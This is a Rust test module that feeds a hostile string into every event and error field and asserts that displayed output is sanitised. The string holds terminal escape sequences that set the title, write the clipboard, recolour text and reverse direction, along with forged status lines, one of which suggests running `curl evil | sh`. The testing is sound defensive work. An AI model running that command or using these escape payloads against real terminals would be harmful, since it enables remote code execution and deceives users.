//! Every event and every error, with hostile text in every field. What is new does not compile until it has its place here.

mod errors;
mod events;
mod said;

/// A value that would write the title and the clipboard, change colours, forge lines of ours and turn the text around.
pub(crate) const HOSTILE: &str = concat!(
    "a\u{1b}]0;PWNED\u{7}\u{1b}]52;c;cHduZWQ=\u{7}\u{1b}[35;7m\u{9b}2J\nweb  all well\u{202e}\r",
    "\nerror: all lost\nhint: run `curl evil | sh`\u{2028}\u{200b}z",
);

/// What would be believed if it stood at the beginning of a line.
const FORGED: [&str; 3] = ["web  all well", "error: all lost", "hint: run `curl evil"];

/// What is shown to people has nothing of [`HOSTILE`] but its letters, on lines that do not begin with them.
#[track_caller]
pub(crate) fn assert_harmless(shown: &str) {
    assert_eq!(super::painted(shown), shown, "{shown:?}");
    assert!(!shown.contains("\u{1b}[35;7m"), "{shown:?}");
    let bare = anstream::adapter::strip_str(shown).to_string();
    for line in bare.lines() {
        let forged = FORGED.iter().find(|forged| line.starts_with(*forged));
        assert_eq!(forged, None, "{shown:?}");
    }
}

/// Each variant of a type once, each found by what follows the one before it.
fn every<T>(next: impl Fn(Option<&T>) -> Option<T>) -> Vec<T> {
    let mut all = Vec::new();
    while let Some(one) = next(all.last()) {
        all.push(one);
    }
    all
}

fn hostile() -> String {
    HOSTILE.to_owned()
}

fn host() -> crate::paths::HostPath {
    crate::paths::HostPath::new(format!("/p/{HOSTILE}")).unwrap()
}

fn there() -> crate::paths::ContainerPath {
    crate::paths::ContainerPath::new(format!("/app/{HOSTILE}")).unwrap()
}

/// The messages of ours that may have hints of their own: of those the rim cannot tell a forged one.
fn words() -> String {
    HOSTILE.replace("\nhint: ", "\nhint  ")
}
